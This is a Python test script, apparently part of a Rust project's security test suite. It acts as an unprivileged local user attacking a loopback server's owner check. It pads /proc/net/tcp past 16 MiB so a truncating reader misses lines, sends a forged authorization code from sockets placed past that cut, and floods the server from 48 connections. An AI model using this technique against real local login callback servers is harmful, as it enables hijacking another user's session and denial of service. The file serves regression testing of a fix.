"""A process of another user against the loopback server's owner check (issue 20.1, 20.2).

Started as root by attacks.rs; becomes `nobody` (65534) at once and does what any user can
do without privilege:

1. grows /proc/net/tcp past TARGET_BYTES with connections queued on its own listening
   sockets (never accepted), so that a reader that stops at 16 MiB misses lines;
2. connects to the victim's loopback server from sockets of 127.0.0.0/8 until it has two
   whose lines lie past 16 MiB (it reads the world-readable table to see where they fall);
3. from those, fetches the start address and posts a code, and records the answers;
4. floods the start address and the redirect path from 48 connections until its standard
   input closes (or a bound on time and count is reached).

Prints one JSON line `{"ready": ...}` after step 3 (the flood is running), and one
`{"flood": ...}` line when the flood has stopped.

usage: table_attacker.py PORT START_PATH TARGET_BYTES
"""

import json
import os
import random
import socket
import sys
import threading

CUT = 16 * 1024 * 1024  # where the old reader of /proc/net/tcp stopped
MARGIN = 1024 * 1024  # lines move a little as other sockets come and go
PER_LISTENER = 4000  # below the accept backlog (somaxconn, 4096 by default)
FLOOD_CONNECTIONS = 48
FLOOD_MAX_SECONDS = 120
FLOOD_MAX_REQUESTS = 200_000


def kernel_form(host, port):
    """An IPv4 address as /proc/net/tcp prints it (host byte order, hex)."""
    raw = int.from_bytes(socket.inet_aton(host), sys.byteorder)
    return "%08X:%04X" % (raw, port)


def table():
    with open("/proc/net/tcp", "rb") as f:
        return f.read()


def inflate(target_bytes):
    held = []
    while len(table()) < target_bytes:
        listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        listener.bind(("127.0.0.1", 0))
        listener.listen(4096)
        address = listener.getsockname()
        held.append(listener)
        for _ in range(PER_LISTENER):
            # Connected, then closed: the client's end lingers in FIN_WAIT2 and the queued
            # end in CLOSE_WAIT, two lines of the table that cost this process no descriptor.
            client = socket.create_connection(address, timeout=5)
            client.close()
    return held


def candidates_past_the_cut(port, wanted):
    """Connected sockets to the victim whose table lines lie past CUT + MARGIN."""
    found = []
    for _ in range(40):
        batch = []
        for _ in range(16):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            host = "127.%d.%d.%d" % (
                random.randint(1, 254),
                random.randint(1, 254),
                random.randint(2, 254),
            )
            s.bind((host, 0))
            s.connect(("127.0.0.1", port))
            batch.append(s)
        remote = kernel_form("127.0.0.1", port)
        wanted_forms = {kernel_form(*s.getsockname()): s for s in batch}
        offset = 0
        where = {}
        for line in table().split(b"\n"):
            fields = line.split()
            if len(fields) > 2 and fields[2].decode() == remote:
                local = fields[1].decode()
                if local in wanted_forms:
                    where[local] = offset
            offset += len(line) + 1
        for form, s in wanted_forms.items():
            if where.get(form, 0) > CUT + MARGIN and len(found) < wanted:
                found.append((s, where[form]))
            else:
                s.close()
        if len(found) >= wanted:
            return found
    raise SystemExit("no socket of the attacker landed past the cut")


def send(s, request):
    s.sendall(request.encode())
    s.settimeout(30)
    reply = b""
    while b"\r\n" not in reply:
        chunk = s.recv(4096)
        if not chunk:
            break
        reply += chunk
    return reply.split(b"\r\n", 1)[0].decode(errors="replace")


def flood(port, path, stop, counter):
    requests = [
        "GET %s HTTP/1.1\r\nHost: localhost:%d\r\n\r\n" % (path, port),
        "POST / HTTP/1.1\r\nHost: localhost:%d\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\nContent-Length: 23\r\n\r\n"
        "code=flood&state=guess0" % port,
    ]
    s = None
    i = 0
    while not stop.is_set() and counter[0] < FLOOD_MAX_REQUESTS:
        try:
            if s is None:
                s = socket.create_connection(("127.0.0.1", port), timeout=30)
            s.sendall(requests[i % 2].encode())
            i += 1
            counter[0] += 1
            if not s.recv(65536):
                s.close()
                s = None
        except OSError:
            if s is not None:
                s.close()
            s = None
            if stop.wait(0.01):
                break


def main():
    port, path, target_bytes = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    os.setgroups([])
    os.setgid(65534)
    os.setuid(65534)
    assert os.getuid() == 65534 and os.geteuid() == 65534

    held = inflate(target_bytes)
    size = len(table())
    (start_socket, start_at), (code_socket, code_at) = candidates_past_the_cut(port, 2)
    start_reply = send(
        start_socket,
        "GET %s HTTP/1.1\r\nHost: localhost:%d\r\nConnection: close\r\n\r\n" % (path, port),
    )
    code_reply = send(
        code_socket,
        "POST / HTTP/1.1\r\nHost: localhost:%d\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\nContent-Length: 24\r\nConnection: close\r\n\r\n"
        "code=mallory&state=guess" % port,
    )

    stop = threading.Event()
    counter = [0]
    threads = [
        threading.Thread(target=flood, args=(port, path, stop, counter), daemon=True)
        for _ in range(FLOOD_CONNECTIONS)
    ]
    for t in threads:
        t.start()
    print(
        json.dumps(
            {
                "ready": True,
                "uid": os.getuid(),
                "table_bytes": size,
                "listeners": len(held),
                "start_offset": start_at,
                "code_offset": code_at,
                "start_reply": start_reply,
                "code_reply": code_reply,
            }
        ),
        flush=True,
    )
    # Until the test closes our standard input, or the bound.
    waiter = threading.Thread(target=sys.stdin.read, daemon=True)
    waiter.start()
    waiter.join(timeout=FLOOD_MAX_SECONDS)
    stop.set()
    for t in threads:
        t.join(timeout=5)
    print(json.dumps({"flood": counter[0]}), flush=True)


if __name__ == "__main__":
    main()
